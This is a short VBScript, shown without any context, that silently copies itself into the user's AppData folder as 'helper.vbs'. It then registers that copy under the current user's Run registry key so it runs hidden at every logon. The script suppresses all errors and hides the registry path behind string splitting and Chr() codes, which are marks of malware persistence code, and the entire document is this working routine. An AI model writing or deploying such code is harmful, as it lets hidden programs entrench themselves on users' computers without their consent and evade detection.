On Error Resume Next
Dim sh, key, self
Set sh = CreateObject("WScript.Shell")
key = Replace("HKCU|Software|Microsoft|Windows|Current" & "Version|" & Chr(82) & "un|Helper", "|", Chr(92))
self = sh.ExpandEnvironmentStrings("%APPDATA%") & "\helper.vbs"
CreateObject("Scripting.FileSystemObject").CopyFile WScript.ScriptFullName, self, True
sh.RegWrite key, "wscript.exe //B """ & self & """", "REG_SZ"
